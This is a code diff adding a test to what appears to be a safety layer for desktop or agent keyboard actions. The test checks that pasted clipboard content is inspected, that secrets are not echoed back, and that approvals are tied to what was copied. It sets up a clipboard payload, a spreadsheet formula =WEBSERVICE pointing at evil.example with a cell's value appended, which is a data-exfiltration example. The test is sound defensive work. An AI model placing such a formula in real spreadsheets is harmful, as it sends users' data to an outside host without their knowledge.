@@ -56,6 +56,27 @@ test('a drag is told with what it ends on', async () => {
   })
 })
 
+test('what would be pasted is looked at, and not told', async () => {
+  const cell = element('cell', 'A1', { states: ['focused'] })
+  await using desktop = await scriptedDesktop([windowOf([cell])])
+  const copy = (text: string) => {
+    desktop.platform.clipboard = {
+      formats: [{ type: 'text/plain', data: Buffer.from(text).toString('base64') }],
+    }
+  }
+  const target = (keys: string) => desktop.target('keyboard_input', { keys })
+  copy('a\t=WEBSERVICE("http://evil.example/"&A1)')
+  expect((await target('Ctrl+v')).pasted).toEqual({ fetches: true })
+  expect((await target('a')).pasted).toBeNull()
+  copy('secret words')
+  expect((await target('Shift+Insert')).pasted).toEqual({ fetches: false })
+  const asked = await target('Ctrl+v')
+  expect(JSON.stringify(asked)).not.toContain('secret words')
+  // An approval is for what was copied then.
+  copy('other words')
+  expect((await target('Ctrl+v')).fingerprint).not.toBe(asked.fingerprint)
+})
+
 test('a field of a page within a page is told with where that comes from', async () => {
   const bar = element('edit', 'Address and search bar', {
     value: 'shop.example/a',
